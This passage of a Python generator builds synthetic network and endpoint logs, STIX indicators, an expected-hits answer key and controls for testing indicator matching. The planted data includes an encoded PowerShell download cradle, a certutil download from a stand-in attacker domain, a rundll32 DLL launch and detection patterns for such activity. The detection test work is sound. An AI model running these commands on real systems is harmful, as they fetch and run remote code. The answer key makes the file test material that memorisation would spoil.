        path = "file:hashes.%s" % (algo if algo == "MD5" else "'%s'" % algo)
        i = P.ind(F, "Glass Wren implant (%s)" % algo, "[%s = %s]" % (path, q(h)), ["GW"])
        P.hit(i, ev(P.at(), ecs_file, name="msoffice_update.dll", directory="C:\\Users\\anna.berger\\AppData\\Local\\Temp",
                    hashes={key: h}), [h])
        if algo == "SHA-1":
            P.neg(i, "near-miss-hash", ev(P.at(), ecs_file, hashes={key: near(h)}), False)
    d = "C:\\ProgramData\\HollowReed"
    i = P.ind(F, "HOLLOWREED install directory", "[file:parent_directory_ref.path = %s]" % q(d), ["HR"])
    P.hit(i, ev(P.at(), ecs_file, name="hrsvc.dat", directory=d), [d])

    i = P.ind(F, "Encoded PowerShell download cradle", "[process:command_line LIKE '%-EncodedCommand SQBFAFgA%']", ["QM"])
    cmd = "powershell.exe -NoP -W Hidden -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA"
    P.hit(i, ev(P.at(), ecs_process, name="powershell.exe", directory="C:\\Windows\\System32\\WindowsPowerShell\\v1.0", cmd=cmd), [cmd])
    i = P.ind(F, "HOLLOWREED service binary", "[process:image_ref.name = 'hrsvc.exe']", ["HR"])
    P.hit(i, ev(P.at(), ecs_process, name="hrsvc.exe", directory="C:\\ProgramData\\Microsoft\\Crypto", cmd="hrsvc.exe -k netsvc"),
          ["hrsvc.exe"])
    h = P.hx(32)
    i = P.ind(F, "PAPERKITE loader image (SHA-256)", "[process:image_ref.hashes.'SHA-256' = %s]" % q(h), ["PK"])
    P.hit(i, ev(P.at(), ecs_process, name="OneDriveUpdater.exe", directory="C:\\Users\\emma.fischer\\AppData\\Local\\Microsoft\\OneDrive",
                cmd="OneDriveUpdater.exe /silent", hashes={"sha256": h}), [h])
    cmd = "certutil.exe -urlcache -split -f http://get.cobaltheron.top/a.b C:\\Users\\Public\\a.b"
    i = P.ind(F, "certutil download from .top", "[process:command_line MATCHES 'certutil(\\\\.exe)? +-urlcache +-split +-f +http://[^ ]+\\\\.top/']", ["CH"])
    P.hit(i, ev(P.at(), ecs_process, name="certutil.exe", directory="C:\\Windows\\System32", cmd=cmd), [cmd])
    P.neg(i, "near-miss-regex", ev(P.at(), ecs_process, name="certutil.exe", directory="C:\\Windows\\System32",
                                   cmd="certutil.exe -urlcache -split -f http://get.cobaltheron.tap/a.b C:\\Users\\Public\\a.b"), False)
    i = P.ind(F, "Compromised service account", "[user-account:account_login = 'svc_hr_sync']", ["QM"])
    P.hit(i, ev(P.at(), ecs_auth, user="svc_hr_sync"), ["svc_hr_sync"])
    sid = DOMAIN_SID + "-4103"
    i = P.ind(F, "Attacker-created account (SID)", "[user-account:user_id = %s]" % q(sid), ["QM"])
    P.hit(i, ev(P.at(), ecs_auth, user="helpdesk.tmp", user_id=sid), [sid])
    snd = "hr-notice@glasswren.top"
    i = P.ind(F, "Glass Wren phishing sender", "[email-message:from_ref.value = %s]" % q(snd), ["GW", "OI"])
    P.hit(i, ev(P.at(), ecs_email, sender=snd, from_as_list=False), [snd])
    snd = "it-helpdesk@quietmarten.xyz"
    i = P.ind(F, "Quiet Marten phishing sender", "[email-message:from_ref.value = %s]" % q(snd), ["QM"])
    P.hit(i, ev(P.at(), ecs_email, sender=snd, from_as_list=True), [snd])
    rcpt = "reports.drop@glasswren.xyz"
    i = P.ind(F, "Exfiltration mailbox", "[email-message:to_refs[*].value = %s]" % q(rcpt), ["GW"])
    P.hit(i, ev(P.at(), ecs_email, sender="maria.rossi@contoso.com", to=["jonas.hansen@contoso.com", rcpt],
                subject="fwd: board minutes", direction="outbound"), [rcpt])
    subj = "Updated travel policy - action required"
    i = P.ind(F, "Lure subject", "[email-message:subject = %s]" % q(subj), ["GW", "OI"])
    P.hit(i, ev(P.at(), ecs_email, sender="travel@contoso-corp.com", subject=subj), [subj])

    def login(us, v):
        return ev(us, ecs_auth, user=v, outcome="failure")
    multi_controls(P, F, E, login, [("user-account:account_login", v) for v in (
        "adm_jump01", "adm_jump02", "adm_stage_a", "adm_stage_b", "adm_early", "adm_late", "adm_backup2",
        "adm_backup3", "adm_pair_x", "adm_pair_y")], ["QM"])
    # FOLLOWEDBY across record kinds: a phishing mail, then its attachment's viewer starts
    t = P.at()
    snd = "invoice@paperkite.top"
    i = P.ind(F, "Phishing mail then viewer execution",
              "([email-message:from_ref.value = %s] FOLLOWEDBY [process:image_ref.name = 'invoice_viewer.exe']) WITHIN 60 SECONDS" % q(snd),
              ["PK"], comps=["[email-message:from_ref.value = %s]" % q(snd), "[process:image_ref.name = 'invoice_viewer.exe']"])
    P.hit(i, [ev(t, ecs_email, sender=snd), ev(P.jitter(t + 40 * US), ecs_process, name="invoice_viewer.exe",
                                                directory="C:\\Users\\liam.olsen\\Downloads", cmd='"invoice_viewer.exe" /open')],
          [snd, "invoice_viewer.exe"])

    def dnsq(us, v):
        return ev(us, ecs_dns, name=v, resolved=["198.51.100.240"])
    lifecycle_controls(P, F, dnsq, "domain-name:value",
                       ["old.paperkite.su", "sleeper.paperkite.su", "revoked.paperkite.xyz", "typo.paperkite.biz",
                        "fixed.paperkite.biz"], ["PK"])


def plan_stix(P):
    F = "stix"
    T = "stix/observed.jsonl"
    ev = lambda us, fn, **kw: P.ev(T, us, fn, **kw)  # noqa: E731

    d1 = P.ip4()
    i = P.ind(F, "Cobalt Heron C2 server (STIX)", "[%s = %s]" % (NT_DST, q(d1)), ["CH"])
    P.hit(i, ev(P.at(), stix_conn, dst=d1, dport=443), [d1])
    d2 = P.ip4("198.51.100")
    i = P.ind(F, "Partner-reported scanner", "[ipv4-addr:value = %s]" % q(d2), ["QM"])
    P.hit(i, ev(P.at(), stix_conn, src=d2, dst="10.10.0.40", dport=22, protocols=["ipv4", "tcp", "ssh"]), [d2])
    d3 = P.ip6()
    i = P.ind(F, "IPv6 C2 (STIX)", "[ipv6-addr:value = %s]" % q(d3), ["GW"])
    P.hit(i, ev(P.at(), stix_conn, dst=d3, dport=443), [d3])
    d4 = P.ip4()
    i = P.ind(F, "Alternate port C2 (STIX)", "[%s = %s AND network-traffic:dst_port = 8443]" % (NT_DST, q(d4)), ["HR"])
    P.hit(i, ev(P.at(), stix_conn, dst=d4, dport=8443), [d4, 8443])
    P.neg(i, "near-miss-port", ev(P.at(), stix_conn, dst=d4, dport=443), False)
    i = P.ind(F, "HOLLOWREED hosting block", "[ipv4-addr:value ISSUBSET '192.0.2.112/28']", ["HR"])
    P.hit(i, ev(P.at(), stix_conn, dst="192.0.2.120", dport=443), ["192.0.2.120"])
    P.neg(i, "near-miss-cidr", ev(P.at(), stix_conn, dst="192.0.2.128", dport=443), False)
    dom = "files.quietmarten.biz"
    i = P.ind(F, "Quiet Marten file host", "[domain-name:value = %s]" % q(dom), ["QM"])
    P.hit(i, ev(P.at(), stix_dns, name=dom, resolves=["198.51.100.238"]), [dom])
    P.neg(i, "near-miss-value", ev(P.at(), stix_dns, name=near(dom), resolves=["198.51.100.236"]), False)
    d7 = P.ip4()
    i = P.ind(F, "Resolution to Cobalt Heron host (STIX)", "[domain-name:resolves_to_refs[*].value = %s]" % q(d7), ["CH"])
    P.hit(i, ev(P.at(), stix_dns, name="www.energy-forum.org", resolves=[d7]), [d7])
    url = "https://secure.cobaltheron.click/owa/"
    i = P.ind(F, "Cobalt Heron credential page", "[url:value = %s]" % q(url), ["CH"])
    P.hit(i, ev(P.at(), stix_http, url=url, host="secure.cobaltheron.click", dport=443, path="/owa/"), [url])
    for algo, n in (("MD5", 16), ("SHA-1", 20), ("SHA-256", 32)):
        h = P.hx(n)
        path = "file:hashes.%s" % (algo if algo == "MD5" else "'%s'" % algo)
        i = P.ind(F, "Cobalt Heron tool (%s)" % algo, "[%s = %s]" % (path, q(h)), ["CH"])
        P.hit(i, ev(P.at(), stix_file, name="ntdsutil_x.exe", hashes={algo: h}, size=99328), [h])
    h = P.hx(32)
    i = P.ind(F, "Cobalt Heron certificate (STIX)", "[x509-certificate:hashes.'SHA-256' = %s]" % q(h), ["CH"])
    P.hit(i, ev(P.at(), stix_x509, sha256=h), [h])
    ua = "Mozilla/5.0 (compatible; GlassWrenBot/0.9)"
    i = P.ind(F, "Glass Wren crawler", "[%s = %s]" % (UA_PATH, q(ua)), ["GW"])
    P.hit(i, ev(P.at(), stix_http, url="http://intranet.contoso.com/search?q=board", host="intranet.contoso.com",
                dst="10.10.0.45", path="/search?q=board", ua=ua), [ua])
    i = P.ind(F, "Quiet Marten subdomain pattern", "[domain-name:value LIKE 'cdn-__.quietmarten.biz']", ["QM"])
    P.hit(i, ev(P.at(), stix_dns, name="cdn-07.quietmarten.biz", resolves=["198.51.100.234"]), ["cdn-07.quietmarten.biz"])
    P.neg(i, "near-miss-like", ev(P.at(), stix_dns, name="cdn-007.quietmarten.biz", resolves=["198.51.100.232"]), False)
    i = P.ind(F, "PAPERKITE download path", "[url:value MATCHES '^https?://[^/]+\\\\.paperkite\\\\.(top|xyz)/d/[A-Za-z0-9]{8}$']", ["PK"])
    url = "https://get.paperkite.xyz/d/Qx7Lm2Za"
    P.hit(i, ev(P.at(), stix_http, url=url, host="get.paperkite.xyz", dport=443, path="/d/Qx7Lm2Za"), [url])
    cmd = "rundll32.exe C:\\Users\\Public\\hr64.dll,StartW"
    i = P.ind(F, "HOLLOWREED launch", "[process:command_line = %s]" % q(cmd), ["HR"])
    P.hit(i, ev(P.at(), stix_process, name="rundll32.exe", cmd=cmd), [cmd])
    i = P.ind(F, "Planted admin account (STIX)", "[user-account:account_login = 'sqlsvc-admin2']", ["CH"])
    P.hit(i, ev(P.at(), stix_user, login="sqlsvc-admin2"), ["sqlsvc-admin2"])
    snd = "press@cobaltheron.top"
    i = P.ind(F, "Cobalt Heron phishing sender (STIX)", "[email-message:from_ref.value = %s]" % q(snd), ["CH"])
    P.hit(i, ev(P.at(), stix_email, sender=snd, subject="Interview request"), [snd])

    def dns(us, v):
        return ev(us, stix_dns, name=v, resolves=["198.51.100.230"])
    multi_controls(P, F, T, dns, [("domain-name:value", v) for v in (
        "one.glasswren.su", "two.glasswren.su", "up.glasswren.biz", "down.glasswren.biz", "early.glasswren.click",
        "late.glasswren.click", "poll.glasswren.biz", "ping.glasswren.biz", "left.glasswren.top", "right.glasswren.top")], ["GW"])
    lifecycle_controls(P, F, dns, "domain-name:value",
                       ["old.cobaltheron.click", "sleeper.cobaltheron.biz", "revoked.cobaltheron.top", "typo.cobaltheron.su",
                        "fixed.cobaltheron.su"], ["CH"])


def plan_custom(P):
    F = "custom"
    A = "custom/app.jsonl"
    ev = lambda us, **kw: P.ev(A, us, custom_rec, **kw)  # noqa: E731

    e1 = P.ip4("198.51.100")
    i = P.ind(F, "Password spraying source (gateway)", "[%s = %s]" % (NT_SRC, q(e1)), ["QM"])
    P.hit(i, ev(P.at(), client=e1, server="10.10.0.80", host="sso.contoso.com", url="https://sso.contoso.com/adfs/ls/", login="ines.larsen"), [e1])
    e2 = P.ip4()
    i = P.ind(F, "Exfiltration server (gateway)", "[ipv4-addr:value = %s]" % q(e2), ["GW"])
    P.hit(i, ev(P.at(), server=e2, host="upload.storage-box.io", url="https://upload.storage-box.io/put"), [e2])
    e3 = P.ip4()
    i = P.ind(F, "C2 on 8443 (gateway)", "[%s = %s AND network-traffic:dst_port = 8443]" % (NT_DST, q(e3)), ["HR"])
    P.hit(i, ev(P.at(), server=e3, server_port=8443, host="cdn.imgstatic-cache.net", url="https://cdn.imgstatic-cache.net:8443/i"), [e3, 8443])
    P.neg(i, "near-miss-port", ev(P.at(), server=e3, server_port=443, host="cdn.imgstatic-cache.net", url="https://cdn.imgstatic-cache.net/i"), False)
    i = P.ind(F, "PAPERKITE hosting block (gateway)", "[ipv4-addr:value ISSUBSET '192.0.2.144/28']", ["PK"])
    P.hit(i, ev(P.at(), server="192.0.2.150"), ["192.0.2.150"])
    P.neg(i, "near-miss-cidr", ev(P.at(), server="192.0.2.160"), False)
    e5 = P.ip6()
    i = P.ind(F, "IPv6 client (gateway)", "[ipv6-addr:value = %s]" % q(e5), ["CH"])
    P.hit(i, ev(P.at(), client=e5, server="10.10.0.80", host="sso.contoso.com", url="https://sso.contoso.com/"), [e5])
    dom = "share.cobaltheron.click"
    i = P.ind(F, "Cobalt Heron file share", "[domain-name:value = %s]" % q(dom), ["CH"])
    P.hit(i, ev(P.at(), host=dom, url="https://share.cobaltheron.click/s/8812"), [dom])
    P.neg(i, "near-miss-value", ev(P.at(), host=near(dom), url="https://%s/s/8812" % near(dom)), False)
    url = "https://portal.quietmarten.click/auth/sso?next=%2Fadmin"
    i = P.ind(F, "Quiet Marten SSO phishing URL", "[url:value = %s]" % q(url), ["QM"])
    P.hit(i, ev(P.at(), url=url), [url])
    h = P.hx(32)
    i = P.ind(F, "Uploaded HOLLOWREED archive", "[file:hashes.'SHA-256' = %s]" % q(h), ["HR"])
    P.hit(i, ev(P.at(), sha256=h, method="POST", payload_name="logs.7z"), [h])
    P.neg(i, "near-miss-hash", ev(P.at(), sha256=near(h), method="POST"), False)
    i = P.ind(F, "Attacker account on the gateway", "[user-account:account_login = 'svc-lantern']", ["GW"])
    P.hit(i, ev(P.at(), login="svc-lantern"), ["svc-lantern"])
    i = P.ind(F, "PAPERKITE paths (gateway)", "[url:value LIKE 'https://%.kite-pix.click/%']", ["PK"])
    P.hit(i, ev(P.at(), url="https://img.kite-pix.click/p/1.gif"), ["https://img.kite-pix.click/p/1.gif"])
    i = P.ind(F, "Glass Wren relay names", "[domain-name:value MATCHES '^[0-9a-f]{12}\\\\.relay\\\\.glasswren\\\\.click$']", ["GW"])
    P.hit(i, ev(P.at(), host="5e1c0a9b7d33.relay.glasswren.click"), ["5e1c0a9b7d33.relay.glasswren.click"])

    def login(us, v):
        return ev(us, login=v, status=401, host="sso.contoso.com", url="https://sso.contoso.com/adfs/ls/")
    multi_controls(P, F, A, login, [("user-account:account_login", v) for v in (
        "ops.legacy1", "ops.legacy2", "ops.first", "ops.second", "ops.begin", "ops.end", "ops.spray", "ops.twice",
        "ops.pair1", "ops.pair2")], ["QM"])

    def host(us, v):
        return ev(us, host=v, url="https://%s/" % v)
    lifecycle_controls(P, F, host, "domain-name:value",
                       ["old.hollowreed.click", "sleeper.hollowreed.click", "revoked.hollowreed.biz",
                        "typo.hollowreed.biz", "fixed.hollowreed.biz"], ["HR"])


# ------------------------------------------------------------------ writing

def render(file, rec, style=None):
    if file.startswith("ecs/"):
        rec = ecs_style(rec, style)
    return json.dumps(rec, separators=(",", ":"))


def write_file(out, file, n, bg_fn, planted, seed):
    rng = random.Random("%s:%s" % (seed, file))
    prng = random.Random("%s:%s:planted" % (seed, file))
    times = bg_times(rng, n)
    planted = sorted(planted, key=lambda e: (e.us, e.seq))
    path = os.path.join(out, file)
    os.makedirs(os.path.dirname(path), exist_ok=True)
    lines = []
    pi = 0
    ecs = file.startswith("ecs/")
    styles = ("nested", "nested", "nested", "nested", "dotted", "dotted", "dotted", "dotted", "mixed", "mixed")
    dumps = json.JSONEncoder(separators=(",", ":")).encode
    for us in times:
        while pi < len(planted) and planted[pi].us <= us:
            e = planted[pi]
            kw = dict(e.kw)
            style = kw.pop("style", "nested")
            rec = e.fn(prng, e.us, **kw)
            lines.append(dumps(ecs_style(rec, style) if ecs else rec))
            e.line = len(lines)
            pi += 1
        rec = bg_fn(rng, us)
        if ecs:
            rec = ecs_style(rec, styles[rng.randrange(10)])
        lines.append(dumps(rec))
    while pi < len(planted):
        e = planted[pi]
        kw = dict(e.kw)
        style = kw.pop("style", "nested")
        rec = e.fn(prng, e.us, **kw)
        lines.append(dumps(ecs_style(rec, style) if ecs else rec))
        e.line = len(lines)
        pi += 1
    with open(path, "w", encoding="utf-8", newline="\n") as f:
        f.write("\n".join(lines))
        f.write("\n")
    return len(lines) - len(planted), len(planted)


def indicator_bundle(P):
    ident = {"type": "identity", "spec_version": "2.1", "id": "identity--c1b0a3f2-8d4e-4f6a-9b7c-2e5d8f1a4c3b",
             "created": "2024-01-08T10:00:00.000Z", "modified": "2024-01-08T10:00:00.000Z",
             "name": "Vigil test CERT", "identity_class": "organization", "sectors": ["government-national"]}
    tlp = "marking-definition--34098fce-860f-48ae-8e50-ebd3cc5e41da"  # TLP:GREEN (TLP 1.0)
    objs = [ident]
    common = {"created_by_ref": ident["id"], "object_marking_refs": [tlp]}
    created = "2024-02-12T09:00:00.000Z"
    descr = {"CH": "Espionage group targeting energy and foreign ministries since 2019.",
             "QM": "Credential-harvesting operator focused on research universities.",
             "GW": "Long-running espionage actor using document lures and bulk exfiltration.",
             "HR": "Modular backdoor with HTTP and TLS C2 channels.",
             "PK": "Downloader delivering second stages from short-lived domains.",
             "OI": "2024 document-lure campaign against policy think tanks."}
    for key in sorted(THREATS):
        t, name = THREATS[key]
        o = {"type": t, "spec_version": "2.1", "id": P.threat_ids[key], "created": created, "modified": created,
             "name": name, "description": descr[key]}
        if t == "intrusion-set":
            o["aliases"] = [name.upper().replace(" ", "_")]
            o["primary_motivation"] = "organizational-gain"
        elif t == "malware":
            o["is_family"] = True
            o["malware_types"] = ["backdoor"] if key == "HR" else ["downloader"]
        else:
            o["first_seen"] = "2024-01-15T00:00:00.000Z"
            o["objective"] = "Collect policy documents"
        o.update(common)
        objs.append(o)
    relrng = random.Random("%s:relationships" % P.seed)
    def rel(src, rt, dst, when=created):
        return dict({"type": "relationship", "spec_version": "2.1",
                     "id": "relationship--" + str(uuid.UUID(int=relrng.getrandbits(128), version=4)),
                     "created": when, "modified": when, "relationship_type": rt, "source_ref": src, "target_ref": dst},
                    **common)
    # context around the groups (not reached by `indicates`)
    objs.append(rel(P.threat_ids["OI"], "attributed-to", P.threat_ids["GW"]))
    objs.append(rel(P.threat_ids["CH"], "uses", P.threat_ids["HR"]))
    objs.append(rel(P.threat_ids["GW"], "uses", P.threat_ids["PK"]))
    for i in P.inds:
        base = {"type": "indicator", "spec_version": "2.1", "id": i.id, "created": created, "modified": created,
                "name": i.name, "indicator_types": ["malicious-activity"], "pattern_type": "stix",
                "pattern_version": "2.1", "valid_from": i.valid_from}
        if i.valid_from == FUTURE_VALID_FROM:
            base["created"] = base["modified"] = FUTURE_VALID_FROM
        if i.old_pattern:
            old = dict(base, pattern=i.old_pattern, description="First report (a typing error in the address).")
            old.update(common)
            objs.append(old)
            base["modified"] = "2024-02-20T14:30:00.000Z"
        base["pattern"] = i.pattern
        if i.valid_until:
            base["valid_until"] = i.valid_until
        if i.revoked:
            base["modified"] = "2024-02-22T08:00:00.000Z"
            base["revoked"] = True
        base.update(common)
        objs.append(base)
        for r in i.related:
            objs.append(rel(i.id, "indicates", r, base["created"]))
    # an indicator in another pattern language: not hunted
    objs.append(dict({"type": "indicator", "spec_version": "2.1", "id": "indicator--" + rand_uuid(P.idrng),
                      "created": created, "modified": created, "name": "Sigma: suspicious certutil use",
                      "indicator_types": ["malicious-activity"], "pattern_type": "sigma",
                      "pattern": "title: certutil download\nlogsource:\n  category: process_creation\n  product: windows\n"
                                 "detection:\n  selection:\n    Image|endswith: '\\certutil.exe'\n    CommandLine|contains: 'urlcache'\n"
                                 "  condition: selection\n", "valid_from": created}, **common))
    return {"type": "bundle", "id": "bundle--" + rand_uuid(P.idrng), "objects": objs}


def generate(seed, n, out):
    P = Plan(seed)
    plan_zeek(P)
    plan_suricata(P)
    plan_ecs(P)
    plan_stix(P)
    plan_custom(P)
    os.makedirs(out, exist_ok=True)
    counts = {}
    for file, share, fn in ZEEK_FILES:
        counts[file] = write_file(out, file, int(round(n * share)), lambda r, us, fn=fn: fn(r, us), P.events.get(file, []), seed)
    counts["suricata/eve.json"] = write_file(out, "suricata/eve.json", n, eve_background, P.events.get("suricata/eve.json", []), seed)
    counts["ecs/ecs.json"] = write_file(out, "ecs/ecs.json", n, ecs_background, P.events.get("ecs/ecs.json", []), seed)
    counts["stix/observed.jsonl"] = write_file(out, "stix/observed.jsonl", n, stix_background, P.events.get("stix/observed.jsonl", []), seed)
    counts["custom/app.jsonl"] = write_file(out, "custom/app.jsonl", n, custom_rec, P.events.get("custom/app.jsonl", []), seed)
    with open(os.path.join(out, "custom", "mapping.json"), "w") as f:
        json.dump(CUSTOM_MAPPING, f, indent=2)
        f.write("\n")
    with open(os.path.join(out, "indicators.json"), "w") as f:
        json.dump(indicator_bundle(P), f, indent=1)
        f.write("\n")
    exp = []
    for ind, evs, values in P.hits:
        last = evs[-1]
        exp.append({"indicator": ind.id, "file": last.file, "line": last.line,
                    "others": [{"file": e.file, "line": e.line} for e in evs[:-1]],
                    "related": sorted(ind.related), "matched": values})
    exp.sort(key=lambda h: (h["file"], h["line"], h["indicator"]))
    with open(os.path.join(out, "expected.jsonl"), "w") as f:
        for h in exp:
            f.write(json.dumps(h, separators=(",", ":")) + "\n")
    ctl = []
    for ind, why, evs, pm, pat in P.negs:
        ctl.append({"control": "negative", "why": why, "indicator": ind.id, "pattern": pat or ind.pattern,
                    "pattern_matches": pm, "records": [{"file": e.file, "line": e.line} for e in evs]})
    for ind in P.inds:
        if ind.comps:
            ctl.append({"control": "multi", "indicator": ind.id, "components": ind.comps})
    with open(os.path.join(out, "controls.jsonl"), "w") as f:
        for c in ctl:
            f.write(json.dumps(c, separators=(",", ":")) + "\n")
    return P, counts, exp, ctl


# ------------------------------------------------------------------ --check: MAPPING.md in Python, and the OASIS matcher

import ipaddress  # noqa: E402


def is_addr(v):
    try:
        ipaddress.ip_address(v)
        return True
    except ValueError:
        return False


def absent(v):
    return v is None or v == "-" or v == "" or v == []


class Obs:
    """The SCOs of one observation, as MAPPING.md builds them."""

    def __init__(self, n):
        self.n = n
        self.objs = []
        self.k = 0

    def new(self, t, **props):
        self.k += 1
        o = {"type": t, "id": "%s--00000000-0000-4000-8000-%06d%06d" % (t, self.n, self.k)}
        o.update(props)
        self.objs.append(o)
        return o

    def addr(self, v):
        return self.new("ipv6-addr" if ":" in v else "ipv4-addr", value=v)["id"]

    def name_or_addr(self, v):
        return self.addr(v) if is_addr(v) else self.new("domain-name", value=v)["id"]

    def bundle(self, us_or_iso):
        ts = us_or_iso if isinstance(us_or_iso, str) else iso(us_or_iso, 6)
        od = {"type": "observed-data", "id": "observed-data--00000000-0000-4000-8000-%012d" % self.n,
              "first_observed": ts, "last_observed": ts, "number_observed": 1, "object_refs": [o["id"] for o in self.objs]}
        return [od] + self.objs


def getp(rec, key):
    """A field by dotted name, from nested objects or dotted keys (or a mix)."""
    if key in rec:
        return rec[key]
    parts = key.split(".")
    for i in range(1, len(parts)):
        head = ".".join(parts[:i])
        if head in rec and isinstance(rec[head], dict):
            v = getp(rec[head], ".".join(parts[i:]))
            if v is not None:
                return v
    return None


def parse_time(v):
    """epoch seconds (number or string) or ISO 8601 -> STIX timestamp (µs), as MAPPING.md reads times."""
    from datetime import datetime, timezone
    if isinstance(v, (int, float)) or (isinstance(v, str) and v.replace(".", "", 1).isdigit()):
        us = round(float(v) * US)
        return iso(us, 6), us
    s = v.replace("Z", "+00:00")
    if len(s) > 5 and s[-5] in "+-" and s[-3] != ":":
        s = s[:-2] + ":" + s[-2:]
    d = datetime.fromisoformat(s)
    us = int(round(d.timestamp() * US))
    return iso(us, 6), us


def host_port(h):
    """A Host header's name and port (MAPPING.md): name:port, [v6]:port, or no port."""
    if h.startswith("["):
        addr, _, rest = h[1:].partition("]")
        if rest.startswith(":") and rest[1:].isdigit() and len(rest) <= 6:
            return addr, int(rest[1:])
        return (addr, None) if rest == "" else (h, None)
    name, sep, port = h.partition(":")
    if sep and ":" not in port and port.isdigit() and len(port) <= 5:
        return name, int(port)
    return h, None


def url_of(scheme, host, port, path):
    host = "[%s]" % host if ":" in host and not host.startswith("[") else host
    default = 443 if scheme == "https" else 80
    return "%s://%s%s%s" % (scheme, host, ":%d" % port if port is not None and port != default else "", path)


def http_host(o, host, uri, port):
    """MAPPING.md's plain-HTTP host: a domain-name (unless an address) and, with the URI, the url."""
    if not host:
        return
    name, named = host_port(host)
    if uri is not None:
        o.new("url", value=url_of("http", name, named if named is not None else port, uri))
    if not is_addr(name):
        o.new("domain-name", value=name)


def conn(o, src, dst, sport, dport, names, extra=None):
    """The network-traffic of MAPPING.md's connection fields (None when there are none)."""
    props = {}
    if src:
        props["src_ref"] = o.addr(src)
    if dst:
        props["dst_ref"] = o.addr(dst)
    if sport is not None:
        props["src_port"] = sport
    if dport is not None:
        props["dst_port"] = dport
    names = [n.strip().lower() for n in names if n and n.strip()]
    if props and names:
        props["protocols"] = ["ipv6" if dst and ":" in dst else "ipv4"] + names
    props.update({k: v for k, v in (extra or {}).items() if v is not None})
    return o.new("network-traffic", **props) if props else None


def http_ext(o, nt, method, uri, ua):
    ext = {}
    if method:
        ext["request_method"] = method
    if uri is not None:
        ext["request_value"] = uri
    if ua:
        ext["request_header"] = {"User-Agent": ua}
    if ext:
        if nt is None:
            nt = o.new("network-traffic")
        nt["extensions"] = {"http-request-ext": ext}


def map_zeek(rec, o):
    """Every field MAPPING.md names, in whichever log it appears."""
    g = lambda k: None if absent(getp(rec, k)) else getp(rec, k)  # noqa: E731
    names = [g("proto")] + (g("service").split(",") if g("service") else [])
    nt = conn(o, g("id.orig_h"), g("id.resp_h"), g("id.orig_p"), g("id.resp_p"), names,
              {"src_byte_count": g("orig_bytes"), "dst_byte_count": g("resp_bytes"),
               "src_packets": g("orig_pkts"), "dst_packets": g("resp_pkts")})
    http_ext(o, nt, g("method"), g("uri"), g("user_agent"))
    if g("query"):
        refs = [o.name_or_addr(a) for a in (g("answers") or [])]
        d = {"value": g("query")}
        if refs:
            d["resolves_to_refs"] = refs
        o.new("domain-name", **d)
    http_host(o, g("host"), g("uri"), g("id.resp_p"))
    if g("server_name"):
        o.new("domain-name", value=g("server_name"))
    c = {}
    if g("fingerprint"):
        c["hashes"] = {"SHA-256": g("fingerprint").lower()}
    if g("certificate.serial"):
        c["serial_number"] = stix_serial(g("certificate.serial"))
    for a, b in (("certificate.subject", "subject"), ("certificate.issuer", "issuer")):
        if g(a):
            c[b] = g(a)
    if c:
        o.new("x509-certificate", **c)
    for dname in g("san.dns") or []:
        o.new("domain-name", value=dname)
    f = {}
    h = {b: g(a) for a, b in (("md5", "MD5"), ("sha1", "SHA-1"), ("sha256", "SHA-256")) if g(a)}
    if h:
        f["hashes"] = h
    if g("filename"):
        f["name"] = g("filename")
    if g("mime_type"):
        f["mime_type"] = g("mime_type")
    size = g("total_bytes") if g("total_bytes") is not None else g("seen_bytes")
    if size is not None:
        f["size"] = size
    if f:
        o.new("file", **f)
    return parse_time(rec["ts"])


def map_suricata(rec, o):
    """Every field MAPPING.md names, in whichever event carries it (an alert's or a
    fileinfo's app-layer metadata too)."""
    g = lambda k: None if absent(getp(rec, k)) else getp(rec, k)  # noqa: E731
    ap = g("app_proto")
    nt = conn(o, g("src_ip"), g("dest_ip"), g("src_port"), g("dest_port"),
              [g("proto"), ap if ap not in ("failed", "unknown") else None],
              {"src_byte_count": g("flow.bytes_toserver"), "dst_byte_count": g("flow.bytes_toclient"),
               "src_packets": g("flow.pkts_toserver"), "dst_packets": g("flow.pkts_toclient")})
    http_ext(o, nt, g("http.http_method"), g("http.url"), g("http.http_user_agent"))
    d = g("dns") or {}
    queries = [x["rrname"] for x in d.get("queries") or [] if not absent(x.get("rrname"))]
    name = d.get("rrname") if not absent(d.get("rrname")) else (queries.pop(0) if queries else None)
    if name:
        refs = []
        if d.get("rrtype") in ("A", "AAAA") and not absent(d.get("rdata")):
            refs.append(o.addr(d["rdata"]))
        for a in d.get("answers") or []:
            if a.get("rrtype") in ("A", "AAAA") and not absent(a.get("rdata")):
                refs.append(o.addr(a["rdata"]))
        for t in ("A", "AAAA"):
            for a in (d.get("grouped") or {}).get(t, []):
                refs.append(o.addr(a))
        props = {"value": name}
        if refs:
            props["resolves_to_refs"] = refs
        o.new("domain-name", **props)
    for x in queries:
        o.new("domain-name", value=x)
    port = g("http.http_port")
    if port is None and g("event_type") == "http":
        port = g("dest_port")
    http_host(o, g("http.hostname"), g("http.url"), port)
    if g("tls.sni"):
        o.new("domain-name", value=g("tls.sni"))
    c = {}
    if g("tls.fingerprint"):
        c["hashes"] = {"SHA-1": g("tls.fingerprint").replace(":", "").lower()}
    if g("tls.serial"):
        c["serial_number"] = stix_serial(g("tls.serial"))
    for a, b in (("tls.subject", "subject"), ("tls.issuerdn", "issuer")):
        if g(a):
            c[b] = g(a)
    if c:
        o.new("x509-certificate", **c)
    f = {}
    h = {b: g(a) for a, b in (("fileinfo.md5", "MD5"), ("fileinfo.sha1", "SHA-1"), ("fileinfo.sha256", "SHA-256")) if g(a)}
    if h:
        f["hashes"] = h
    if g("fileinfo.filename"):
        f["name"] = g("fileinfo.filename")
    if g("fileinfo.size") is not None:
        f["size"] = g("fileinfo.size")
    if f:
        o.new("file", **f)
    return parse_time(rec["timestamp"])


def map_ecs(rec, o):
    flat = flatten(rec)
    g = lambda k: None if absent(flat.get(k)) else flat.get(k)  # noqa: E731
    nt = conn(o, g("source.ip"), g("destination.ip"), g("source.port"), g("destination.port"),
              [g("network.transport"), g("network.protocol")] if g("network.transport") or g("network.protocol") else [])
    http_ext(o, nt, None, None, g("user_agent.original"))
    if g("dns.question.name"):
        props = {"value": g("dns.question.name")}
        if g("dns.resolved_ip"):
            props["resolves_to_refs"] = [o.addr(a) for a in g("dns.resolved_ip")]
        o.new("domain-name", **props)
    u, orig = g("url.full"), g("url.original")
    if u is None and orig is not None:
        if "://" in orig:
            u = orig
        elif orig.startswith("/") and g("url.domain"):
            port = g("url.port") if g("url.port") is not None else g("destination.port")
            scheme = (g("url.scheme") or ("https" if port == 443 else "http")).lower()
